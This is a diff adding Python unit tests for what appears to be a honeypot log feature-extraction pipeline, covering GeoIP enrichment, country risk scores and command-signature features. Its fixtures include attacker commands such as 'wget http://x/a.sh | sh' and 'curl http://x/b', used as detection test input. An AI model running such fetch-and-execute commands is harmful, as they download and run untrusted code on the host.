@@ -0,0 +1,84 @@
+import os
+import sys
+import tempfile
+import unittest
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, os.path.join(HERE, '..', 'core_ml'))
+sys.path.insert(0, HERE)
+
+from geoip_fixture import write_test_mmdb
+
+from bootstrap import HistoricalBootstrap
+from Feature import FeatureExtractor
+from feature_schema import FEATURE_NAMES
+from ip_state import IPStateStore
+from pipeline import extract_events
+
+def log(ip='198.51.100.7', commands=()):
+    return {
+        'source_ip': ip,
+        'timestamp': '2025-01-01T03:00:00',
+        'duration': 30,
+        'auth_attempts': {'failed': 3, 'success': 0},
+        'commands': list(commands),
+    }
+
+class FeatureTestCase(unittest.TestCase):
+    def setUp(self):
+        self.dir = tempfile.TemporaryDirectory()
+        write_test_mmdb(os.path.join(self.dir.name, 'GeoLite2-City.mmdb'))
+        self.env = dict(os.environ)
+        os.environ['GEOIP_PATH'] = self.dir.name
+
+    def tearDown(self):
+        os.environ.clear()
+        os.environ.update(self.env)
+        self.dir.cleanup()
+
+class TestEnrichment(FeatureTestCase):
+    def test_one_enrichment_per_event(self):
+        fe = FeatureExtractor()
+        calls = []
+        enrich = fe.enrich
+        fe.enrich = lambda ip: calls.append(ip) or enrich(ip)
+        events = extract_events([log(), log(ip='192.0.2.1')], fe, IPStateStore(ttl=1e9))
+        self.assertEqual(calls, ['198.51.100.7', '192.0.2.1'])
+        self.assertEqual([e[4] for e in events], ['Moscow, RU', 'Beijing, CN'])
+        self.assertEqual([e[2]['country_risk'] for e in events], [0.7, 0.8])
+
+    def test_transform_resolves_the_ip_without_an_enrichment(self):
+        fe = FeatureExtractor()
+        self.assertEqual(fe.transform(log())['country_risk'], 0.7)
+        self.assertEqual(fe.transform(log(ip='10.0.0.1'))['country_risk'], 0.5)
+        self.assertEqual(list(fe.transform(log())), list(FEATURE_NAMES))
+
+class TestSignatureFeatures(FeatureTestCase):
+    def setUp(self):
+        super().setUp()
+        os.environ['COMMAND_SIGNATURE_FEATURES'] = 'true'
+        self.progress = os.path.join(self.dir.name, 'bootstrap.json')
+
+    def test_bootstrap_and_live_features_match(self):
+        fe = FeatureExtractor()
+        logs = [log(commands=['wget http://x/a.sh | sh', 'chmod +x a']), log(ip='192.0.2.1'),
+                log(commands=['curl http://x/b'])]
+        live = [e[2] for e in extract_events(logs, fe, IPStateStore(ttl=1e9))]
+        bootstrap = HistoricalBootstrap(None, fe, IPStateStore(ttl=1e9), progress_path=self.progress)
+        historical, _, _, _ = bootstrap._prepare([dict(l) for l in logs])
+        self.assertEqual(historical, live)
+        self.assertEqual(live[0]['sig:program:wget'], 1)
+        self.assertEqual(live[0]['sig:program:chmod'], 1)
+        self.assertNotIn('sig:program:wget', live[1])
+
+    def test_hits_do_not_leak_between_logs(self):
+        fe = FeatureExtractor()
+        fe.transform(log(commands=['wget http://x/a.sh']))
+        self.assertFalse([name for name in fe.transform(log()) if name.startswith('sig:')])
+        hits = []
+        fe.transform_many([log(commands=['wget http://x/a.sh']), {'source_ip': '192.0.2.1'}, log()],
+                          signature_hits=hits)
+        self.assertEqual([dict(h) for h in hits], [{'program:wget': 1}, {}, {}])
+
+if __name__ == "__main__":
+    unittest.main()